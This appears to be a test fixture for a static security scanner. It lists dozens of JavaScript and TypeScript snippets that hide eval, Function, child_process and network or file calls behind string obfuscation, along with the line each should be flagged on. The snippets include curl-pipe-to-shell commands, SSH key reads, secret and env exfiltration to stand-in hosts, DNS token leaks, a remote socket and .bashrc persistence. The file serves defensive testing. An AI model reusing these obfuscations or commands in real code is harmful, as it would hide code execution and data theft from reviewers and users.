import type { EvasionCase } from '../table';

/** The lines of a source file. */
const src = (...lines: string[]): string => lines.join('\n');

export const CASES: EvasionCase[] = [
  {
    name: 'eval name split across two module constants',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/plugins/hooks.js': src(
        "const HOOK_PREFIX = 'ev';",
        "const HOOK_SUFFIX = 'al';",
        '',
        'export function runHook(source) {',
        '  return globalThis[HOOK_PREFIX + HOOK_SUFFIX](source);',
        '}',
      ),
    },
    expect: [{ file: 'src/plugins/hooks.js', line: 5, category: 'dynamic-code' }],
  },
  {
    name: 'eval name grown by let reassignments inside a function',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/template/render.js': src(
        'export function renderTemplate(compiled) {',
        "  let engine = 'ev';",
        "  engine += 'a';",
        "  engine = engine + 'l';",
        '  return window[engine](compiled);',
        '}',
      ),
    },
    expect: [{ file: 'src/template/render.js', line: 5, category: 'dynamic-code' }],
  },
  {
    name: 'module-scope let reassigned before use in a function',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/util/script.ts': src(
        "let runner = 'e';",
        "runner += 'va';",
        'runner = `${runner}l`;',
        '',
        'export function runScript(code: string): unknown {',
        '  return (globalThis as any)[runner](code);',
        '}',
      ),
    },
    expect: [{ file: 'src/util/script.ts', line: 6, category: 'dynamic-code' }],
  },
  {
    name: 'template literal assembles eval from two pieces',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/config/loader.js': src(
        "const a = 'ev';",
        "const b = 'al';",
        'export const loadConfig = (text) => globalThis[`${a}${b}`](`(${text})`);',
      ),
    },
    expect: [{ file: 'src/config/loader.js', line: 3, category: 'dynamic-code' }],
  },
  {
    name: 'reversed letter array joined into eval',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/migrate.js': src(
        "const step = ['l', 'a', 'v', 'e'].reverse().join('');",
        'export function applyMigration(body) {',
        '  return globalThis[step](body);',
        '}',
      ),
    },
    expect: [{ file: 'src/migrate.js', line: 3, category: 'dynamic-code' }],
  },
  {
    name: 'dash-separated word split and joined into eval',
    technique: 'computed-name',
    language: 'js',
    files: {
      'lib/expr.js': src("const mode = 'e-v-a-l'.split('-').join('');", 'module.exports = (expr) => global[mode](expr);'),
    },
    expect: [{ file: 'lib/expr.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'eval spelled with String.fromCharCode',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/calc.ts': src(
        'const op = String.fromCharCode(101, 118, 97, 108);',
        'export function calculate(formula: string): number {',
        '  return (globalThis as any)[op](formula);',
        '}',
      ),
    },
    expect: [{ file: 'src/calc.ts', line: 3, category: 'dynamic-code' }],
  },
  {
    name: 'eval name decoded with atob',
    technique: 'computed-name',
    language: 'js',
    files: {
      'public/widget.js': src("const k = atob('ZXZhbA==');", "window[k](document.getElementById('cfg').textContent);"),
    },
    expect: [{ file: 'public/widget.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'child_process name decoded from base64 with Buffer',
    technique: 'computed-name',
    language: 'js',
    files: {
      'scripts/build-helper.js': src(
        "const mod = Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString();",
        'const { execSync } = require(mod);',
        "execSync('node scripts/postbuild.js && curl -s https://cdn-assets.example/s | sh');",
      ),
    },
    expect: [{ file: 'scripts/build-helper.js', line: 3, category: 'process' }],
  },
  {
    name: 'hex escape inside the eval key string',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/sandbox.js': src('export function evaluate(code) {', "  return globalThis['\\x65val'](code);", '}'),
    },
    expect: [{ file: 'src/sandbox.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'unicode escape inside the child_process specifier',
    technique: 'computed-name',
    language: 'js',
    files: {
      'tools/release.js': src("const run = require('child\\u005fprocess');", "run.exec('git push --force origin HEAD:main');"),
    },
    expect: [{ file: 'tools/release.js', line: 2, category: 'process' }],
  },
  {
    name: 'unicode escape inside the eval identifier',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/formula.js': src('export function compute(expr) {', '  return \\u0065val(expr);', '}'),
    },
    expect: [{ file: 'src/formula.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'code point escape braces inside the Function identifier',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/compile.ts': src(
        'export function compile(body: string): () => unknown {',
        "  return new \\u{46}unction('ctx', body) as () => unknown;",
        '}',
      ),
    },
    expect: [{ file: 'src/compile.ts', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'require of child_process concatenated inline',
    technique: 'computed-name',
    language: 'js',
    files: {
      'bin/setup.cjs': src("const sh = require('child' + '_process');", "sh.exec('chmod 777 ~/.ssh && cat ~/.ssh/id_rsa');"),
    },
    expect: [{ file: 'bin/setup.cjs', line: 2, category: 'process' }],
  },
  {
    name: 'require of child_process joined from an array',
    technique: 'computed-name',
    language: 'js',
    files: {
      'scripts/postinstall.js': src(
        "const proc = require(['child', 'process'].join('_'));",
        "proc.spawn('node', ['telemetry.js'], { detached: true, stdio: 'ignore' }).unref();",
      ),
    },
    expect: [{ file: 'scripts/postinstall.js', line: 2, category: 'process' }],
  },
  {
    name: 'require of a module named by a config field',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/db/driver.js': src(
        "const cfg = require('../../config.json');",
        'const driver = require(cfg.driver);',
        'module.exports = driver;',
      ),
    },
    expect: [{ file: 'src/db/driver.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'global function picked by a parameter name',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/rpc/dispatch.js': src(
        'export function dispatch(message) {',
        '  const { method, arg } = JSON.parse(message);',
        '  return globalThis[method](arg);',
        '}',
      ),
    },
    expect: [{ file: 'src/rpc/dispatch.js', line: 3, category: 'dynamic-code' }],
  },
  {
    name: 'process env reached through a concatenated key',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/analytics.js': src(
        "const vars = process['en' + 'v'];",
        "fetch('https://stats.example-metrics.io/ping', { method: 'POST', body: vars.AWS_SECRET_ACCESS_KEY });",
      ),
    },
    expect: [{ file: 'src/analytics.js', line: 2, category: 'secrets' }],
  },
  {
    name: 'process object itself reached through a computed global key',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/auth/token.ts': src("const p = (globalThis as any)['pro' + 'cess'];", 'export const ghToken: string = p.env.GITHUB_TOKEN;'),
    },
    expect: [{ file: 'src/auth/token.ts', line: 2, category: 'secrets' }],
  },
  {
    name: 'upper-case literal lowered into eval',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/legacy/compat.js': src("const MODE = 'EVAL';", 'export const run = (s) => globalThis[MODE.toLowerCase()](s);'),
    },
    expect: [{ file: 'src/legacy/compat.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'Function name capitalised at run time with toUpperCase',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/expr/builder.js': src(
        "const ctor = 'f'.toUpperCase() + 'unction';",
        "export const build = (body) => new globalThis[ctor]('scope', body);",
      ),
    },
    expect: [{ file: 'src/expr/builder.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'eval sliced out of an innocent word',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/i18n/medieval.js': src(
        "const THEME = 'medieval';",
        'export function applyTheme(css) {',
        '  return window[THEME.slice(4)](css);',
        '}',
      ),
    },
    expect: [{ file: 'src/i18n/medieval.js', line: 3, category: 'dynamic-code' }],
  },
  {
    name: 'module name repaired with replace',
    technique: 'computed-name',
    language: 'js',
    files: {
      'scripts/doctor.js': src(
        "const m = require('child-process'.replace('-', '_'));",
        "m.execSync('npm config set registry https://npm.corp-mirror.xyz/');",
      ),
    },
    expect: [{ file: 'scripts/doctor.js', line: 2, category: 'process' }],
  },
  {
    name: 'Array.from of a reversed string joined into eval',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/lab/run.js': src("const fn = Array.from('lave').reverse().join('');", 'export default (snippet) => self[fn](snippet);'),
    },
    expect: [{ file: 'src/lab/run.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'spread of a reversed string joined into a module name',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/worker/pool.js': src(
        "const name = [...'ssecorp_dlihc'].reverse().join('');",
        "require(name).fork('./worker.js', [], { execArgv: ['--inspect=0.0.0.0:9229'] });",
      ),
    },
    expect: [{ file: 'src/worker/pool.js', line: 2, category: 'process' }],
  },
  {
    name: 'string split into characters and reversed',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/hooks/useScript.ts': src(
        "const KEY = 'lave'.split('').reverse().join('');",
        'export function useScript(code: string): unknown {',
        '  return (window as unknown as Record<string, (s: string) => unknown>)[KEY](code);',
        '}',
      ),
    },
    expect: [{ file: 'src/hooks/useScript.ts', line: 3, category: 'dynamic-code' }],
  },
  {
    name: 'percent-encoded eval decoded with decodeURIComponent',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/router/params.js': src(
        "const handler = decodeURIComponent('%65%76%61%6c');",
        'export const parseParam = (p) => globalThis[handler](p);',
      ),
    },
    expect: [{ file: 'src/router/params.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'legacy unescape of a percent-u encoded name',
    technique: 'computed-name',
    language: 'js',
    files: {
      'public/legacy.js': src("var n = unescape('%u0065%u0076%u0061%u006c');", 'window[n](localStorage.getItem("bootstrap"));'),
    },
    expect: [{ file: 'public/legacy.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'eval built with String.prototype.concat',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/format.js': src("const f = 'ev'.concat('a', 'l');", 'export const format = (tpl) => globalThis[f]("`" + tpl + "`");'),
    },
    expect: [{ file: 'src/format.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'String.raw tagged template as the require specifier',
    technique: 'computed-name',
    language: 'js',
    files: {
      'scripts/clean.js': src(
        'const { execSync } = require(String.raw`child_process`);',
        "execSync('rm -rf ~/.npm/_cacache ~/.gitconfig');",
      ),
    },
    expect: [{ file: 'scripts/clean.js', line: 2, category: 'process' }],
  },
  {
    name: 'eval name parsed out of a JSON string literal',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/settings.js': src(
        'const key = JSON.parse(\'"\\\\u0065val"\');',
        'export const loadSettings = (raw) => globalThis[key](`(${raw})`);',
      ),
    },
    expect: [{ file: 'src/settings.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'eval written as a base-36 number',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/metrics/counter.js': src(
        'const BUCKET = (693741).toString(36);',
        'export function record(expr) {',
        '  return globalThis[BUCKET](expr);',
        '}',
      ),
    },
    expect: [{ file: 'src/metrics/counter.js', line: 3, category: 'dynamic-code' }],
  },
  {
    name: 'letters of eval mapped from base-36 digits',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/jobs/runner.js': src(
        "const verb = [14, 31, 10, 21].map((n) => n.toString(36)).join('');",
        'export const runJob = (job) => globalThis[verb](job.script);',
      ),
    },
    expect: [{ file: 'src/jobs/runner.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'method name kept in a constants object',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/ops/constants.ts': src(
        "const OPS = { format: 'toFixed', compute: 'ev' + 'al' } as const;",
        '',
        'export function runOp(expr: string): unknown {',
        '  return (globalThis as any)[OPS.compute](expr);',
        '}',
      ),
    },
    expect: [{ file: 'src/ops/constants.ts', line: 4, category: 'dynamic-code' }],
  },
  {
    name: 'fs module and write method both concatenated',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/cache/persist.js': src(
        "const store = require('f' + 's');",
        "store['append' + 'FileSync'](require('os').homedir() + '/.bashrc', '\\ncurl -s https://x.example/i | sh\\n');",
      ),
    },
    expect: [{ file: 'src/cache/persist.js', line: 2, category: 'filesystem' }],
  },
  {
    name: 'vm module required through a concatenated name',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/preview/exec.js': src("const sandbox = require('v' + 'm');", 'export const preview = (code) => sandbox.runInThisContext(code);'),
    },
    expect: [{ file: 'src/preview/exec.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'net module joined from letters opens a reverse shell socket',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/health/probe.js': src(
        "const transport = require(['n', 'e', 't'].join(''));",
        "const sock = transport.connect(4444, '198.51.100.23');",
        "sock.on('data', (d) => sock.write(String(d)));",
      ),
    },
    expect: [{ file: 'src/health/probe.js', line: 2, category: 'network' }],
  },
  {
    name: 'https module from a template with an empty substitution',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/telemetry/send.ts': src(
        "const proto = `http${'s'}`;",
        'const client = require(proto);',
        'export function send(payload: string): void {',
        "  client.request({ host: 'collector.example-cdn.net', method: 'POST' }).end(payload);",
        '}',
      ),
    },
    expect: [{ file: 'src/telemetry/send.ts', line: 4, category: 'network' }],
  },
  {
    name: 'dynamic import of child_process built from three pieces',
    technique: 'computed-name',
    language: 'js',
    files: {
      'scripts/prepare.mjs': src(
        "const { execSync } = await import('node:' + 'child_' + 'process');",
        "execSync('git config --global credential.helper store');",
      ),
    },
    expect: [{ file: 'scripts/prepare.mjs', line: 2, category: 'process' }],
  },
  {
    name: 'Function constructor looked up by a concatenated global key',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/bootstrap.js': src("const F = globalThis['Func' + 'tion'];", "F('return process')().mainModule.require('fs');"),
    },
    expect: [{ file: 'src/bootstrap.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'setTimeout reached by computed key with a string body',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/poll.js': src(
        "const timer = 'set' + 'Timeout';",
        'export function schedule(job) {',
        "  window[timer]('sync(' + job + ')', 1000);",
        '}',
      ),
    },
    expect: [{ file: 'src/poll.js', line: 3, category: 'dynamic-code' }],
  },
  {
    name: 'process.binding reached through a concatenated key',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/native/fast.js': src(
        "const b = process['bind' + 'ing']('spawn_sync');",
        "b.spawn({ file: '/bin/sh', args: ['sh', '-c', 'id'], stdio: [] });",
      ),
    },
    expect: [{ file: 'src/native/fast.js', line: 1, category: 'sandbox-escape' }],
  },
  {
    name: 'constructor chain with both keys concatenated',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/filters.js': src("const k = 'constr' + 'uctor';", "export const unlock = () => []['fil' + 'ter'][k]('return process')();"),
    },
    expect: [{ file: 'src/filters.js', line: 2, category: 'sandbox-escape' }],
  },
  {
    name: 'destructuring child_process with a joined computed key',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/git/hooks.ts': src(
        "const { [['ex', 'ec', 'Sync'].join('')]: sh } = require('child_process');",
        'export function installHooks(): void {',
        "  sh('cp .githooks/* .git/hooks/ && curl -fsSL https://hooks.example.dev/x.sh | bash');",
        '}',
      ),
    },
    expect: [{ file: 'src/git/hooks.ts', line: 3, category: 'process' }],
  },
  {
    name: 'sink name from a ternary whose both branches are exec variants',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/platform.js': src(
        "const cp = require('child_process');",
        "const how = process.platform === 'win32' ? 'exec' + 'File' : 'ex' + 'ec';",
        'cp[how](process.env.SETUP_CMD || \'sh -c "$(curl -fsSL https://get.example.sh)"\');',
      ),
    },
    expect: [{ file: 'src/platform.js', line: 3, category: 'process' }],
  },
  {
    name: 'computed eval name exported from another file',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/constants/names.ts': "export const RUNNER = ['ev', 'al'].join('');\n",
      'src/engine/run.ts': src(
        "import { RUNNER } from '../constants/names';",
        'export function run(code: string): unknown {',
        '  return (globalThis as any)[RUNNER](code);',
        '}',
      ),
    },
    expect: [{ file: 'src/engine/run.ts', line: 3, category: 'dynamic-code' }],
  },
  {
    name: 'static class field holds the joined Function name',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/services/Compiler.ts': src(
        'export class Compiler {',
        "  static readonly ctor = ['Func', 'tion'].join('');",
        '  compile(body: string): unknown {',
        "    return new (globalThis as any)[Compiler.ctor]('ctx', body);",
        '  }',
        '}',
      ),
    },
    expect: [{ file: 'src/services/Compiler.ts', line: 4, category: 'dynamic-code' }],
  },
  {
    name: 'spread char code array for the module name',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/ci/report.js': src(
        'const CODES = [99, 104, 105, 108, 100, 95, 112, 114, 111, 99, 101, 115, 115];',
        'const runner = require(String.fromCharCode(...CODES));',
        "runner.execSync('env | curl -X POST --data-binary @- https://ci-report.example.io');",
      ),
    },
    expect: [{ file: 'src/ci/report.js', line: 3, category: 'process' }],
  },
  {
    name: 'Buffer from a byte array decoded to eval',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/proto/codec.js': src(
        'const OP = Buffer.from([0x65, 0x76, 0x61, 0x6c]).toString();',
        'export const decode = (frame) => globalThis[OP](frame.toString());',
      ),
    },
    expect: [{ file: 'src/proto/codec.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'TextDecoder over a Uint8Array yields eval',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/wasm/glue.ts': src(
        'const sym = new TextDecoder().decode(new Uint8Array([101, 118, 97, 108]));',
        'export function glue(js: string): unknown {',
        '  return (globalThis as any)[sym](js);',
        '}',
      ),
    },
    expect: [{ file: 'src/wasm/glue.ts', line: 3, category: 'dynamic-code' }],
  },
  {
    name: 'first key of an object literal used as the global name',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/registry.js': src(
        'const handlers = { eval: true };',
        'const [entry] = Object.keys(handlers);',
        'export const handle = (s) => globalThis[entry](s);',
      ),
    },
    expect: [{ file: 'src/registry.js', line: 3, category: 'dynamic-code' }],
  },
  {
    name: 'eval padded and trimmed from whitespace',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/parse.js': src("const FN = '  eval  '.trim();", 'export const parse = (s) => global[FN](s);'),
    },
    expect: [{ file: 'src/parse.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'eval built with padEnd on a single letter',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/pad.js': src("const n = 'e'.padEnd(2, 'v') + 'al';", 'export const exec = (s) => globalThis[n](s);'),
    },
    expect: [{ file: 'src/pad.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'name looked up in a Map of aliases',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/aliases.js': src(
        "const ALIASES = new Map([['compute', 'ev' + 'al']]);",
        "export const compute = (s) => globalThis[ALIASES.get('compute')](s);",
      ),
    },
    expect: [{ file: 'src/aliases.js', line: 2, category: 'dynamic-code' }],
  },
  {
    name: 'computed eval key inside a React click handler',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/components/Console.tsx': src(
        "const K = 'e' + 'val';",
        'export function Console({ input }: { input: string }) {',
        '  return <button onClick={() => (window as any)[K](input)}>Run</button>;',
        '}',
      ),
    },
    expect: [{ file: 'src/components/Console.tsx', line: 3, category: 'dynamic-code' }],
  },
  {
    name: 'module.require with a concatenated specifier in a cjs file',
    technique: 'computed-name',
    language: 'js',
    files: {
      'lib/index.cjs': src(
        "const proc = module.require('chi' + 'ld_pro' + 'cess');",
        "proc.execFileSync('/bin/bash', ['-c', 'curl -s https://update.example.sh | bash']);",
      ),
    },
    expect: [{ file: 'lib/index.cjs', line: 2, category: 'process' }],
  },
  {
    name: 'worker_threads required by a concatenated name runs eval source',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/parallel.js': src(
        "const { Worker } = require('worker' + '_threads');",
        'export const runParallel = (code) => new Worker(code, { eval: true });',
      ),
    },
    expect: [{ file: 'src/parallel.js', line: 2, category: 'process' }],
  },
  {
    name: 'dns module concatenated resolves an exfil hostname',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/net/warmup.js': src(
        "const resolver = require('d' + 'ns');",
        'resolver.resolve(`${process.env.NPM_TOKEN}.cache-warm.example.xyz`, () => {});',
      ),
    },
    expect: [{ file: 'src/net/warmup.js', line: 2, category: 'network' }],
  },
  {
    name: 'fetch reached through a computed global key',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/sync.ts': src(
        "const transport = ['fe', 'tch'].join('');",
        'export async function syncState(state: object): Promise<void> {',
        "  await (globalThis as any)[transport]('https://sync.example-state.app/v1', { method: 'PUT', body: JSON.stringify(state) });",
        '}',
      ),
    },
    expect: [{ file: 'src/sync.ts', line: 3, category: 'network' }],
  },
  {
    name: 'Math.random replaced through computed keys',
    technique: 'computed-name',
    language: 'js',
    files: {
      'test/setup/random.ts': src("const target = 'ran' + 'dom';", '(Math as any)[target] = () => 0.42;'),
    },
    expect: [{ file: 'test/setup/random.ts', line: 2, category: 'randomness' }],
  },
  {
    name: 'function picked from a computed name with at and charAt pieces',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/text/letters.js': src(
        "const W = 'every value';",
        'const op = W.charAt(0) + W.at(1) + W.slice(7, 9);',
        'export const apply = (s) => globalThis[op](s);',
      ),
    },
    expect: [{ file: 'src/text/letters.js', line: 3, category: 'dynamic-code' }],
  },
  {
    name: 'exec key computed inside an arrow default parameter',
    technique: 'computed-name',
    language: 'js',
    files: {
      'src/tasks.js': src("const cp = require('child_process');", "export const task = (cmd, how = 'ex' + 'ec') => cp[how](cmd);"),
    },
    expect: [{ file: 'src/tasks.js', line: 2, category: 'process' }],
  },
];
